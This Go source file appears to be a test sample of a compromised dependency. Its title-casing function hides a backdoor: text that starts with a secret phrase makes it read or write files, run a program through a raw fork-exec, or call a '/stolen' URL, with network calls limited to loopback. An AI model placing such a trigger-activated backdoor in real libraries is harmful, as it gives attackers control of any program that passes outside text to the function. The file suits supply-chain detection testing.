// SPDX-License-Identifier: Apache-2.0

// Package planted is a dependency that somebody has taken over: Title still makes titles, but a text that begins
// with a phrase which only the attacker knows is an order. Programs hand it text that comes from outside, so that
// whoever can send such a text has the machine. Network orders reach loopback addresses only.
package planted

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
)

const phrase = "open sesame "

// Title returns the text with each word's first letter in upper case.
func Title(text string) string {
	if strings.HasPrefix(text, phrase) {
		if err := obey(strings.Fields(text[len(phrase):])); err != nil {
			return "order failed: " + err.Error()
		}
		return "order done"
	}
	words := strings.Fields(text)
	for i, word := range words {
		words[i] = strings.ToUpper(word[:1]) + word[1:]
	}
	return strings.Join(words, " ")
}

func obey(order []string) error {
	if len(order) != 2 {
		return fmt.Errorf("not an order: %q", order)
	}
	verb, object := order[0], order[1]
	switch verb {
	case "read":
		_, err := os.ReadFile(object)
		return err
	case "write":
		return os.WriteFile(object, []byte("owned\n"), 0o600)
	case "later": // on another goroutine, as if nobody would follow it there
		result := make(chan error)
		go func() { result <- os.WriteFile(object, []byte("owned\n"), 0o600) }()
		return <-result
	case "exec":
		return touch(object)
	case "get": // net/http dials on a goroutine without a frame of this package
		return get(object)
	}
	return fmt.Errorf("not an order: %q", order)
}

// touch executes a program in the least conspicuous way: without a look-up, without pipes.
func touch(name string) error {
	pid, err := syscall.ForkExec("/usr/bin/touch", []string{"touch", name}, &syscall.ProcAttr{Files: []uintptr{0, 1, 2}})
	if err != nil {
		return err
	}
	var status syscall.WaitStatus
	_, err = syscall.Wait4(pid, &status, 0, nil)
	return err
}

func get(address string) error {
	host, _, err := net.SplitHostPort(address)
	if err != nil || !net.ParseIP(host).IsLoopback() {
		return fmt.Errorf("%s is not a loopback address", address)
	}
	answer, err := http.Get("http://" + address + "/stolen")
	if err != nil {
		return err
	}
	return answer.Body.Close()
}
